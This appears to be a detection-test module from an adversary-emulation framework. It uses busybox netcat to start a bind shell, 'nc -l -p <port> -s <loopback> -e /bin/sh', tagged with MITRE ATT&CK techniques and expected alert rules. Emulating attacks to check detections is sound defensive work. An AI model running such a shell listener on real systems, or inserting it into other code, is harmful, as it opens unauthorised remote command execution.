"""Waits for connections with a shell behind, on a random loopback address.

ATT&CK T1133, T1095. Cleanup: the process ends.
"""

from __future__ import annotations

from vedette_dev.stage import Stage

TECHNIQUE = "T1095"
EXPECTS = ("attack.t1095", "attack.t1133", "attack.t1059")


def act(stage: Stage) -> str:
    name = stage.word()
    program = stage.copy(stage.busybox(), stage.folder() / name / "nc")
    stage.begin()
    arguments = ["-l", "-p", str(stage.free_port()), "-s", stage.loopback(), "-e", "/bin/sh"]
    stage.start([program, *arguments])
    return name
